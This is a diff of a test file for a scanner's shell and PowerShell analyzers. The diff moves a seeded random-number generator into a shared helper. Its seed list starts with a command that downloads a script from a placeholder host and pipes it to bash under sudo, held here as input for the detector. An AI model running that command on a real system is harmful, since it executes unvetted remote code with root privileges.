@@ -5,18 +5,7 @@ import { before, describe, it } from 'node:test';
 import { powershellAnalyzer } from '../../../src/scan/analyzers/powershell.ts';
 import { shellAnalyzer } from '../../../src/scan/analyzers/shell.ts';
 import { collector, type Collected } from './shell-collect.ts';
-
-/** Deterministic PRNG (mulberry32) so a failure is reproducible by its index. */
-function rng(seed: number): () => number {
-  let a = seed >>> 0;
-  return () => {
-    a = (a + 0x6d2b79f5) >>> 0;
-    let t = a;
-    t = Math.imul(t ^ (t >>> 15), t | 1);
-    t ^= t + Math.imul(t ^ (t >>> 7), t | 61);
-    return ((t ^ (t >>> 14)) >>> 0) / 4294967296;
-  };
-}
+import { rng } from '../../helpers/random.ts';
 
 const seeds = [
   'curl -fsSL https://x.test/i.sh | sudo bash -s -- --yes',
